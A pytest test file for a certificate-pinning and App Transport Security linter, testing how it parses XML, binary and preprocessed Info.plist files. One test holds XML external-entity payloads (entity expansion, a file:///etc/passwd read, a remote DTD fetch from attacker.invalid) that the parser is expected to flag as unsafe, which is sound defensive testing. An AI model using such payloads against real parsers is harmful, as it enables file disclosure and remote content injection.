"""Plist reading: formats, key lines, hostile and malformed input, preprocessed files."""

from __future__ import annotations

import plistlib
from pathlib import Path

import pytest

from pinlint.model.facts import CleartextPolicy, Note, ParseError, PinSet
from pinlint.parsers import SourceFile
from pinlint.parsers.config import plist, plistread, preprocess

HEADER = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n'
    '<plist version="1.0">\n'
)
PIN_A = "0KIv8FE99p0iYCfZsYeIqpTF2V8BFNkhipCJ3fD8+Fw="
PIN_B = "mD/CkQrTvolGrtrWzwyf89clQnEwC2ObP6gpgKHpkcM="


def parse(text: str | bytes, name: str = "Info.plist") -> list[object]:
    data = text.encode() if isinstance(text, str) else text
    return plist.parse(SourceFile(Path(name), name, data))


def line_of(text: str, needle: str, occurrence: int = 1) -> int:
    """The 1-based line of the ``occurrence``-th line containing ``needle``."""
    hits = [number for number, line in enumerate(text.splitlines(), start=1) if needle in line]
    return hits[occurrence - 1]


def cleartext(facts: list[object]) -> list[CleartextPolicy]:
    return [fact for fact in facts if isinstance(fact, CleartextPolicy)]


ATS_PLIST = HEADER + """<dict>
\t<key>NSAppTransportSecurity</key>
\t<dict>
\t\t<key>NSAllowsArbitraryLoads</key>
\t\t<true/>
\t\t<key>NSExceptionDomains</key>
\t\t<dict>
\t\t\t<key>legacy.example.com</key>
\t\t\t<dict>
\t\t\t\t<key>NSExceptionAllowsInsecureHTTPLoads</key><true/>
\t\t\t</dict>
\t\t</dict>
\t</dict>
</dict>
</plist>
"""


def test_key_lines_multi_line_and_compact() -> None:
    facts = cleartext(parse(ATS_PLIST))
    lines = sorted((fact.scope, fact.span.line) for fact in facts)
    assert lines == [
        ("app", line_of(ATS_PLIST, "NSAllowsArbitraryLoads")),
        ("domain", line_of(ATS_PLIST, "NSExceptionAllowsInsecureHTTPLoads")),
    ]
    app = next(fact for fact in facts if fact.scope == "app")
    assert app.span.col == 3  # two tabs, then <key>


def test_crlf_lines_are_counted_once() -> None:
    crlf = ATS_PLIST.replace("\n", "\r\n")
    facts = cleartext(parse(crlf))
    assert sorted(fact.span.line for fact in facts) == [
        line_of(ATS_PLIST, "NSAllowsArbitraryLoads"),
        line_of(ATS_PLIST, "NSExceptionAllowsInsecureHTTPLoads"),
    ]


def test_everything_on_one_line() -> None:
    one_line = ATS_PLIST.replace("\n", "").replace("\t", "")
    facts = cleartext(parse(one_line))
    assert len(facts) == 2
    assert {fact.span.line for fact in facts} == {1}
    assert len({fact.span.col for fact in facts}) == 2


def test_binary_plist_reports_line_one(tmp_path: Path) -> None:
    value = {"NSAppTransportSecurity": {
        "NSAllowsArbitraryLoads": True,
        "NSPinnedDomains": {"api.example.com": {"NSPinnedCAIdentities": [{"SPKI-SHA256-BASE64": PIN_A}]}},
    }}
    data = plistlib.dumps(value, fmt=plistlib.FMT_BINARY)
    path = tmp_path / "Info.plist"
    path.write_bytes(data)
    facts = parse(path.read_bytes())
    policies = cleartext(facts)
    assert [(policy.scope, policy.span.line) for policy in policies] == [("app", 1)]
    pin_sets = [fact for fact in facts if isinstance(fact, PinSet)]
    assert len(pin_sets) == 1 and pin_sets[0].span.line == 1 and pin_sets[0].kind == "ca"
    assert [pin.value for pin in pin_sets[0].pins] == [PIN_A]


def test_binary_and_xml_give_the_same_settings() -> None:
    xml_facts = parse(ATS_PLIST)
    binary = plistlib.dumps(plistlib.loads(ATS_PLIST.encode()), fmt=plistlib.FMT_BINARY)
    binary_facts = parse(binary)
    assert sorted(fact.setting for fact in cleartext(xml_facts)) == sorted(
        fact.setting for fact in cleartext(binary_facts))


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE plist [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    '<!DOCTYPE plist [<!ENTITY ext SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE plist [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>',
])
def test_entity_declarations_are_unsafe(doctype: str) -> None:
    text = ('<?xml version="1.0"?>\n' + doctype + '\n<plist version="1.0"><dict>'
            '<key>NSAppTransportSecurity</key><dict><key>NSAllowsArbitraryLoads</key><true/></dict>'
            '</dict></plist>\n')
    facts = parse(text)
    assert len(facts) == 1
    error = facts[0]
    assert isinstance(error, ParseError) and error.unsafe


@pytest.mark.parametrize("body, line", [
    ("<dict>\n<key>NSAppTransportSecurity</key>\n<dict>\n</array>\n</dict>\n</plist>\n", 7),
    ("<dict>\n<key>NSAppTransportSecurity</key>\n<integer>12a</integer>\n</dict>\n</plist>\n", 1),
    ("<dict>\n<key>NSAppTransportSecurity</key>\n<true/><false/>\n</dict>\n</plist>\n", 6),
])
def test_malformed_plists_are_parse_errors(body: str, line: int) -> None:
    facts = parse(HEADER + body)
    assert len(facts) == 1
    error = facts[0]
    assert isinstance(error, ParseError) and not error.unsafe
    assert error.span.line == line


def test_corrupt_binary_plist_is_a_parse_error() -> None:
    facts = parse(b"bplist00" + b"\x00" * 40)
    assert len(facts) == 1 and isinstance(facts[0], ParseError) and not facts[0].unsafe


def test_other_plists_without_transport_keys_are_skipped() -> None:
    assert parse("not a plist", name="GoogleService.plist") == []
    errors = parse("not a plist", name="Info.plist")
    assert len(errors) == 1 and isinstance(errors[0], ParseError)


def test_plists_with_transport_keys_are_read_whatever_their_name() -> None:
    facts = parse(ATS_PLIST, name="Release.plist")
    assert len(cleartext(facts)) == 2


def test_info_plist_names() -> None:
    assert plist.is_info_plist_name("Info.plist")
    assert plist.is_info_plist_name("CareApp-Info.plist")
    assert plist.is_info_plist_name("Info-Release.plist")
    assert not plist.is_info_plist_name("GoogleService.plist")


def test_debug_named_plist_marks_its_facts() -> None:
    facts = cleartext(parse(ATS_PLIST, name="Info-Debug.plist"))
    assert facts and all(fact.variant == "debug" for fact in facts)
    assert all(fact.variant is None for fact in cleartext(parse(ATS_PLIST, name="Info-Release.plist")))


PREPROCESSED = "#include \"Shared.h\"\n" + HEADER + """<dict>
\t<key>NSAppTransportSecurity</key>
\t<dict>
#if DEBUG
\t\t<key>NSAllowsArbitraryLoads</key>
\t\t<true/>
#else
\t\t<key>NSAllowsArbitraryLoads</key>
\t\t<false/>
#endif
\t\t<key>NSPinnedDomains</key>
\t\t<dict>
\t\t\t<key>api.example.com</key>
\t\t\t<dict>
\t\t\t\t<key>NSPinnedCAIdentities</key>
\t\t\t\t<array>
#ifndef DEBUG
\t\t\t\t\t<dict><key>SPKI-SHA256-BASE64</key><string>PIN_A</string></dict>
#endif
\t\t\t\t\t<dict><key>SPKI-SHA256-BASE64</key><string>PIN_B</string></dict>
\t\t\t\t</array>
\t\t\t</dict>
\t\t</dict>
\t</dict>
</dict>
</plist>
""".replace("PIN_A", PIN_A).replace("PIN_B", PIN_B)


def test_preprocessed_plist_reads_each_branch() -> None:
    facts = parse(PREPROCESSED)
    assert not any(isinstance(fact, ParseError) for fact in facts)
    policies = cleartext(facts)
    assert len(policies) == 1
    assert policies[0].span.line == line_of(PREPROCESSED, "NSAllowsArbitraryLoads", 1)
    assert policies[0].variant == "debug"
    pin_sets = [fact for fact in facts if isinstance(fact, PinSet)]
    counts = sorted(len(pin_set.pins) for pin_set in pin_sets)
    assert counts == [1, 2]  # the debug build drops PIN_A, the release build keeps both
    assert all(pin_set.span.line == line_of(PREPROCESSED, "NSPinnedCAIdentities") for pin_set in pin_sets)


def test_preprocessed_plist_with_no_readable_branch_is_a_parse_error() -> None:
    broken = HEADER + "<dict>\n#if DEBUG\n<key>A</key>\n#endif\n<dict>\n</plist>\n"
    facts = parse(broken)
    assert len(facts) == 1 and isinstance(facts[0], ParseError)


def test_preprocessed_plist_with_one_bad_branch_keeps_the_good_one() -> None:
    text = HEADER + """<dict>
<key>NSAppTransportSecurity</key>
<dict>
<key>NSAllowsArbitraryLoads</key>
#if DEBUG
<true/>
#else
<false
#endif
</dict>
</dict>
</plist>
"""
    facts = parse(text)
    assert len(cleartext(facts)) == 1
    assert any(isinstance(fact, Note) for fact in facts)


def test_preprocess_variants_keep_line_numbers() -> None:
    data = b"a\r\n#if DEBUG\r\nb\r\n#elif STAGING\r\nc\r\n#else\r\nd\r\n#endif\r\ne\r\n"
    builds = preprocess.variants(data)
    assert builds is not None and len(builds) == 3
    kept = [[line for line in build.data.split(b"\r\n") if line] for build in builds]
    assert kept == [[b"a", b"b", b"e"], [b"a", b"c", b"e"], [b"a", b"d", b"e"]]
    assert all(build.data.count(b"\r\n") == data.count(b"\r\n") for build in builds)
    assert builds[0].debug_lines == frozenset({3})
    assert builds[2].debug_lines == frozenset()


def test_preprocess_without_directives() -> None:
    assert preprocess.variants(b"<plist><dict/></plist>") is None
    assert preprocess.variants(b"<string>#fff</string>") is None


def test_unbalanced_directives_do_not_raise() -> None:
    builds = preprocess.variants(b"#if A\nx\n#else\ny\n")
    assert builds is not None and len(builds) == 2
    assert preprocess.variants(b"#endif\nx\n") is not None


def test_key_positions_follow_nesting() -> None:
    positions = plistread.key_positions(ATS_PLIST.encode())
    assert positions[("NSAppTransportSecurity",)][0] == line_of(ATS_PLIST, "<key>NSAppTransportSecurity")
    key = ("NSAppTransportSecurity", "NSExceptionDomains", "legacy.example.com")
    assert positions[key][0] == line_of(ATS_PLIST, "legacy.example.com")


def test_engine_reports_binary_plist_findings_on_line_one(tmp_path: Path) -> None:
    from tests.conftest import scan_path

    target = tmp_path / "ios" / "Extension"
    target.mkdir(parents=True)
    value = {"NSAppTransportSecurity": {"NSPinnedDomains": {"api.example.com": {
        "NSPinnedLeafIdentities": [{"SPKI-SHA256-BASE64": PIN_A}, {"SPKI-SHA256-BASE64": PIN_B}]}}}}
    (target / "Info.plist").write_bytes(plistlib.dumps(value, fmt=plistlib.FMT_BINARY))
    result = scan_path(tmp_path)
    found = [(finding.rule_id, finding.span.path, finding.span.line) for finding in result.findings]
    assert ("PIN102", "ios/Extension/Info.plist", 1) in found
